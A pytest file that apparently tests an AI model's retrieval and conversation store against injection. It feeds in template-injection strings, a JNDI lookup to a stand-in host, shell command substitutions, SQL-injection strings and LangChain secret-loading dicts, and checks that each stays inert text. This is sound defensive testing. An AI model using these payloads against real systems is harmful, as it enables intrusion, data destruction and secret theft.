"""Whatever a question, a title or a document says: it is kept, searched and sent as text, and does nothing."""

import json
from collections.abc import Iterator
from datetime import date

import pytest
from sqlalchemy import Engine

from assistant.conversations import Conversations
from assistant.errors import ConversationNotFound
from assistant.job_table import JobTable
from assistant.jobs import JobRegistry
from assistant.threads import Threads
from assistant.turn import Assistant
from retrieval.database import open_database
from retrieval.embedding import Embedder
from retrieval.retriever import CitewellRetriever
from tests.assistant.scripted_endpoint import reply
from tests.assistant.turns import ANNA, BELA, with_script
from tests.conftest import Shelf

TEMPLATES = (
    "{x}", "{{x}}", "{{7*7}}", "{{mark}}", "{{passages}}", "{{question}}", "{% raw %}", "{# a #}", "{0}", "{x!r:>{y}}",
    "%s", "%(x)s", "%n", "%%", "$x", "${x}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "\\1", "\\g<0>", "{{config.__class__}}",
    "${jndi:ldap://evil.example/a}", "`id`", "$(id)",
)  # fmt: skip
INJECTIONS = (
    "' OR '1'='1", "'; DROP TABLE conversations; --", '" OR 1=1 --', "x' UNION SELECT id, owner FROM conversations --",
    "1; PRAGMA writable_schema=1", "a%' ESCAPE '!", "%", "_", "%%", "_____", "\\", "\\%", "/%", "[a-z]", "*", "?", "^",
    ":owner", ":param_1", "?1", "NULL", "x'", 'x"',
)  # fmt: skip
LC = {
    "lc": 1,
    "type": "constructor",
    "id": ["langchain_core", "prompts", "prompt", "PromptTemplate"],
    "kwargs": {"template": "{x}"},
}
SECRET = {"lc": 1, "type": "secret", "id": ["OPENAI_API_KEY"]}


@pytest.fixture
def engine(shelf: Shelf) -> Iterator[Engine]:
    """The database that the shelf is in."""
    engine = open_database(f"sqlite:///{shelf.directory / 'library.sqlite'}")
    yield engine
    engine.dispose()


@pytest.mark.threat("T30")
def test_templates_in_questions_and_documents_reach_the_model_letter_for_letter(
    shelf: Shelf, engine: Engine, embedder: Embedder
) -> None:
    """All of them, in the passage and in the question, in the very words that go over the wire."""
    for number, template in enumerate(TEMPLATES):
        shelf.add(
            "company", **{f"badge {number}": f"The deposit for a badge of kind {number} is 40 euros {template} a year."}
        )
    retriever = CitewellRetriever(engine=shelf.search, catalogue=shelf.catalogue, limit=50)
    conversations = Conversations(engine)
    assistant = Assistant(shelf.library, retriever, conversations, embedder, None, 200, today=lambda: date(2026, 11, 3))
    question = f"How much is the deposit for a badge, in euros a year? {' '.join(TEMPLATES)}"
    _, endpoint = with_script(assistant, reply("It is 40 euros [1]."), question)
    prompt = "\n".join(message["content"] for message in endpoint.requests[0].body["messages"])
    assert question in prompt
    found = [t for n, t in enumerate(TEMPLATES) if f"of kind {n} is 40 euros {t} a year." in prompt]
    assert found == list(TEMPLATES)


@pytest.mark.threat("T29")
@pytest.mark.parametrize("words", INJECTIONS)
def test_titles_and_searches_hold_any_words_and_find_nothing_but_them(engine: Engine, words: str) -> None:
    conversations, threads = Conversations(engine), Threads(engine, JobRegistry())
    mine, other, hers = (conversations.create(who) for who in (ANNA, ANNA, BELA))
    for conversation, who in ((mine, ANNA), (other, ANNA), (hers, BELA)):
        conversations.save(conversations.begin(conversation, who, "How long may we stay"), state="done", text="Long")
    threads.rename(mine, ANNA, f"so {words} then")
    threads.rename(hers, BELA, f"so {words} then")
    assert [hit.thread.id for hit in threads.search(ANNA, words)] == [mine]
    assert threads.search(ANNA, words)[0].match == words
    assert {thread.id: thread.title for thread in threads.list(ANNA)} == {
        mine: f"so {words} then",
        other: "How long may we stay",
    }


@pytest.mark.threat("T29")
@pytest.mark.parametrize("words", INJECTIONS)
def test_an_id_of_any_words_is_nobodys(engine: Engine, words: str) -> None:
    conversations = Conversations(engine)
    conversations.begin(conversations.create(ANNA), ANNA, "q")
    with pytest.raises(ConversationNotFound):
        conversations.messages(words, ANNA)


@pytest.mark.threat("T28")
@pytest.mark.parametrize("given", [LC, SECRET], ids=["constructor", "secret"])
def test_what_looks_like_a_langchain_object_stays_a_dict(engine: Engine, given: dict[str, object]) -> None:
    jobs = JobTable(engine)
    job = jobs.get(jobs.add("search", {"given": given, **given}, owner="x"))
    assert job is not None
    assert job.work == {"given": given, **given}
    assert type(job.work["given"]) is dict


@pytest.mark.threat("T28")
@pytest.mark.parametrize("given", [LC, SECRET], ids=["constructor", "secret"])
def test_what_looks_like_a_langchain_object_stays_text_in_a_document(
    shelf: Shelf, given: dict[str, object], monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "sk-canary-4711")
    words = json.dumps(given)
    scope = shelf.add("company", **{words: f"The deposit is 40 euros. {words}"})
    retriever = CitewellRetriever(engine=shelf.search, catalogue=shelf.catalogue, scope=scope)
    (document,) = retriever.invoke("How much is the deposit?")
    assert document.metadata["title"] == document.metadata["document"] == words
    assert words in document.page_content
    assert "canary" not in repr(document)
